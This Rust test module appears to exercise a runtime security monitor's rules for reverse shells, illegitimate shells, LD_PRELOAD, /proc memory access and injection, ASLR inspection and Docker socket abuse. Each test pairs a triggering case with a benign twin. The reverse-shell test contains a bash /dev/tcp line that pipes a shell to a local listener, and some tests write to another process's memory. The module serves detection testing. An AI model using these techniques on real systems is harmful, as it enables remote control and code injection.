//! The built-in rules about shells, libraries put before others, and the memory of other processes: each fires for the
//! real thing, and not for its honest twin.

use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};

use anyhow::{Context as _, Result, ensure};

use super::container;
use super::rules::fired;
use crate::harness::{Cgroup, Context, Skip, Test};

pub(super) const TESTS: &[Test] = &[
    ("shells::illegitimate_shell", |c| shell_of(c, "nginx", true)),
    ("shells::illegitimate_shell_honest", |c| shell_of(c, "e2e-nginx", false)),
    ("shells::reverse_shell", |c| reverse(c, true)),
    ("shells::reverse_shell_honest", |c| reverse(c, false)),
    ("shells::ld_preload", |c| preloaded(c, "LD_PRELOAD:/home/e2e/none.so", true)),
    ("shells::ld_preload_honest", |c| preloaded(c, "LD_LIBRARY_PATH:/tmp/build/deps", false)),
    ("shells::proc_mem_access", |c| memory(c, "proc_mem_access", libc::O_RDONLY)),
    ("shells::proc_mem_code_injection", |c| memory(c, "proc_mem_code_injection", libc::O_WRONLY)),
    ("shells::aslr_inspection", aslr),
    ("shells::docker_abuse", runtime_socket),
    ("shells::process_vm_write_inject", vm_write),
];

/// A program by the name of `server` becomes a shell.
fn shell_of(context: &Context, server: &str, wanted: bool) -> Result<()> {
    let program = format!("{}/{server}", context.dir("server")?);
    symlink(&context.actor, &program)?;
    let (stopped, pid) = context.watch(&[], || {
        let args = ["exec", "path=/bin/sh", "arg=-c", "arg=true"];
        let mut child = Command::new(&program).args(args).env_clear().stdout(Stdio::null()).spawn()?;
        ensure!(child.wait()?.success(), "the shell failed");
        Ok(child.id())
    })?;
    fired(&stopped, "illegitimate_shell", pid, wanted)?;
    Ok(())
}

/// bash connects and becomes a shell that reads from the connection; its twin reads from a file.
fn reverse(context: &Context, wanted: bool) -> Result<()> {
    if !std::path::Path::new("/bin/bash").exists() {
        return Err(Skip::because("bash is not installed"));
    }
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let script =
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec /bin/sh {}", if wanted { "<&3" } else { "</dev/null" });
    let (stopped, pid) = context.watch(&[], || {
        let mut child = Command::new("/bin/bash").args(["-c", &script]).env_clear().stdin(Stdio::null()).spawn()?;
        drop(listener.accept()?);
        ensure!(child.wait()?.success(), "the shell failed");
        Ok(child.id())
    })?;
    if let Some(line) = fired(&stopped, "reverse_shell", pid, wanted)? {
        ensure!(line.at("/target") == format!("127.0.0.1:{port}"), "target: {}", line.0);
    }
    Ok(())
}

/// The library is not there: the loader says so and goes on.
fn preloaded(context: &Context, env: &str, wanted: bool) -> Result<()> {
    let env = format!("env={env}");
    let (stopped, said) = context.watch(&[], || context.actor_lines(&["exec", "arg=report", &env]))?;
    let did = said.last().context("the actor said nothing")?;
    fired(&stopped, "ld_preload", did.me.pid, wanted)?;
    Ok(())
}

/// The memory of this process, and the actor's own, which only its reading is nobody's business.
fn memory(context: &Context, rule: &str, flags: i32) -> Result<()> {
    let (other, flags_arg) = (format!("path=/proc/{}/mem", std::process::id()), format!("flags={flags}"));
    let (stopped, (did, own, maps)) = context.watch(&[], || {
        let open = |path: &str, flags: &str| context.actor(&["open", "how=openat", path, flags]);
        let maps = format!("path=/proc/{}/maps", std::process::id());
        Ok((open(&other, &flags_arg)?, open("path=/proc/self/mem", "flags=0")?, open(&maps, "flags=0")?))
    })?;
    let line = fired(&stopped, rule, did.me.pid, true)?.context("it fired")?;
    ensure!(line.at("/target") == other["path=".len()..], "target: {}", line.0);
    fired(&stopped, rule, own.me.pid, false)?;
    fired(&stopped, rule, maps.me.pid, false)?;
    Ok(())
}

fn aslr(context: &Context) -> Result<()> {
    let (stopped, (did, honest)) = context.watch(&[], || {
        let open = |path| context.actor(&["open", "how=openat", path]);
        Ok((open("path=/proc/sys/kernel/randomize_va_space")?, open("path=/proc/sys/kernel/hostname")?))
    })?;
    fired(&stopped, "aslr_inspection", did.me.pid, true)?;
    fired(&stopped, "aslr_inspection", honest.me.pid, false)?;
    Ok(())
}

/// A socket of that name, from a container and from the host.
fn runtime_socket(context: &Context) -> Result<()> {
    let cgroup = Cgroup::made(&format!("docker-{}.scope", container::id(20)))?;
    let dir = context.dir("runtime")?;
    let (path, again) = (format!("{dir}/docker.sock"), format!("path={dir}/again/docker.sock"));
    std::fs::create_dir(format!("{dir}/again"))?;
    let (stopped, (inside, outside)) = context.watch(&[], || {
        let deed = format!("connect to=unix path={path}");
        Ok((container::inside(context, &cgroup, &deed)?, context.actor(&["connect", "to=unix", &again])?))
    })?;
    let line = fired(&stopped, "docker_abuse", inside.me.pid, true)?.context("it fired")?;
    ensure!(line.at("/target") == path.as_str(), "target: {}", line.0);
    fired(&stopped, "docker_abuse", outside.me.pid, false)?;
    Ok(())
}

/// Where calls are not seen by the raw tracepoints anyway, the rules do not attach to them for this.
fn vm_write(context: &Context) -> Result<()> {
    if context.machine.step("security_file_open") != Some("raw-syscall") {
        return Err(Skip::because("it would make every system call slower here, so it is not watched by default"));
    }
    let (stopped, (did, own)) =
        context.watch(&[], || Ok((context.actor(&["vmwrite"])?, context.actor(&["vmwrite", "own=1"])?)))?;
    fired(&stopped, "process_vm_write_inject", did.me.pid, true)?;
    fired(&stopped, "process_vm_write_inject", own.me.pid, false)?;
    Ok(())
}
